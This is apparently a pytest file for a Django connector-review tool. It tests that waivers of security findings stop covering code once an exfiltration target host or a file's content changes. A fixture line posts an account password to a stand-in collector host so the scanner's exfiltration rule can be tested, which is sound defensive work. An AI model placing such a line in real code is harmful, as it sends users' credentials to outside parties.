"""Waivers that cannot be stretched (issue 18, item 4).

A waiver of a finding made by what a run sent (data-exfiltration, ...) is tied to the
line and to what went where, so pointing the same line at another host ends it; a
waiver of a finding without a line (minified-code) is tied to the file's content.
"""

import importlib

import pytest
from django.apps import apps
from django.utils import timezone

from connectors import services
from connectors.models import ReviewState, Submission
from review.models import Waiver
from review.waivers import anchor_hash, finding_anchor, waiver_grant

pytestmark = pytest.mark.django_db

SENDS_TO = "var TARGET = 'https://{host}/v1';\n"
POST = "httprequest.post('https://telemetry.example-collector.net/v1', metadata.account.password);"


@pytest.fixture
def submit(alice, django_capture_on_commit_callbacks):
    def _submit(connector):
        with django_capture_on_commit_callbacks(execute=True):
            submission = services.connector_submit(connector=connector, user=alice, visibility="company")
        return Submission.objects.get(pk=submission.pk)

    return _submit


def _edit(connector, alice, **scripts):
    connector.refresh_from_db()
    services.connector_update(connector=connector, user=alice, **scripts)


def _to(host: str, source: str) -> str:
    """The exfiltration fixture with its target in a variable defined on another line."""
    body = source.replace(POST, "httprequest.post(TARGET, metadata.account.password);")
    return SENDS_TO.format(host=host) + body


@pytest.fixture
def exfiltrating(import_connector, alice, submit):
    connector = import_connector("sales-crm-exfiltration")
    _edit(connector, alice, processdata_script=_to("telemetry.example-collector.net", connector.processdata_script))
    submission = submit(connector)
    assert submission.findings.filter(rule="data-exfiltration").exists()
    return submission


def test_a_waived_exfiltration_ends_when_only_the_target_changes(exfiltrating, erin, alice, submit):
    finding = exfiltrating.findings.get(rule="data-exfiltration")
    waiver = waiver_grant(finding=finding, engineer=erin, reason="The vendor's own telemetry")
    assert "telemetry.example-collector.net" in waiver.anchor
    connector = exfiltrating.connector
    connector.refresh_from_db()
    # The same line, the same host: still waived.
    _edit(connector, alice, processdata_script="// again\n" + connector.processdata_script)
    again = submit(connector)
    assert again.findings.get(rule="data-exfiltration").waiver == waiver
    # Only TARGET changes, on another line: the flagged line reads the same, the finding is another one.
    connector.refresh_from_db()
    _edit(connector, alice, processdata_script=connector.processdata_script.replace(
        "telemetry.example-collector.net", "collector.elsewhere-sink.org"))
    moved = submit(connector)
    flagged = moved.findings.get(rule="data-exfiltration")
    assert "collector.elsewhere-sink.org" in flagged.message and flagged.waiver is None
    assert moved.state == ReviewState.CHANGES_REQUESTED


@pytest.fixture
def minified(import_connector, submit):
    submission = submit(import_connector("sales-crm-minified"))
    assert submission.findings.get(rule="minified-code").line is None
    return submission


def test_a_waiver_without_a_line_covers_only_the_same_file_content(minified, erin, alice, submit):
    waiver = waiver_grant(finding=minified.findings.get(rule="minified-code"), engineer=erin, reason="Vendor SDK")
    assert waiver.anchor.startswith("file:")
    connector = minified.connector
    connector.refresh_from_db()
    _edit(connector, alice, authentication_script=connector.authentication_script + "\n")  # another file changed
    again = submit(connector)
    assert again.findings.get(rule="minified-code").waiver == waiver
    services.submission_withdraw(submission=again, user=alice)  # in review now: withdrawn to edit again
    connector.refresh_from_db()
    other = connector.processdata_script.replace("'Unknown report: '", "'No such report: '")
    assert other != connector.processdata_script
    _edit(connector, alice, processdata_script=other)
    changed = submit(connector)
    flagged = changed.findings.get(rule="minified-code")
    assert flagged.message == again.findings.get(rule="minified-code").message  # the same words, other code
    assert flagged.waiver is None
    assert changed.state == ReviewState.CHANGES_REQUESTED


def _old_anchor(scripts, file, line, message):
    """The anchor before issue 18: the flagged line's text, or the message without one."""
    lines = (scripts.get(file) or "").splitlines()
    if line and 0 < line <= len(lines):
        return f"line:{lines[line - 1].strip()}"
    return f"message:{message}"


def _as_before(waiver, finding, scripts):
    anchor = _old_anchor(scripts, finding.file, finding.line, finding.message)
    Waiver.objects.filter(pk=waiver.pk).update(anchor=anchor, anchor_hash=anchor_hash(waiver.rule, waiver.file, anchor))


def test_the_data_migration_rewrites_old_anchors_from_the_version_they_were_granted_on(
        exfiltrating, minified, erin, import_connector, submit):
    migration = importlib.import_module("review.migrations.0007_issue18_waiver_anchors")
    exfil = exfiltrating.findings.get(rule="data-exfiltration")
    squeezed = minified.findings.get(rule="minified-code")
    credential = submit(import_connector("sales-crm-hardcoded-password")).findings.get(rule="hardcoded-credential")
    waivers = {f.rule: waiver_grant(finding=f, engineer=erin, reason="ok") for f in (exfil, squeezed, credential)}
    for finding in (exfil, squeezed, credential):
        _as_before(waivers[finding.rule], finding, finding.submission.scripts)
    orphan = Waiver.objects.create(connector=minified.connector, rule="no-rows", file="processdata.js",
                                   anchor="message:Report X produced no rows.", anchor_hash="x" * 64, reason="ok",
                                   granted_by_name="erin")
    unchanged = Waiver.objects.get(pk=waivers["hardcoded-credential"].pk).anchor

    migration.rewrite_anchors(apps, None)

    for finding in (exfil, squeezed, credential):
        waiver = Waiver.objects.get(pk=waivers[finding.rule].pk)
        anchor = finding_anchor(finding.submission.scripts, finding.rule, finding.file, finding.line, finding.message)
        assert (waiver.anchor, waiver.anchor_hash) == (anchor, anchor_hash(finding.rule, finding.file, anchor))
        assert waiver.expires_on is None
    assert Waiver.objects.get(pk=waivers["hardcoded-credential"].pk).anchor == unchanged  # same meaning, same anchor
    orphan.refresh_from_db()
    assert orphan.expires_on is not None and not orphan.is_active(timezone.localdate())
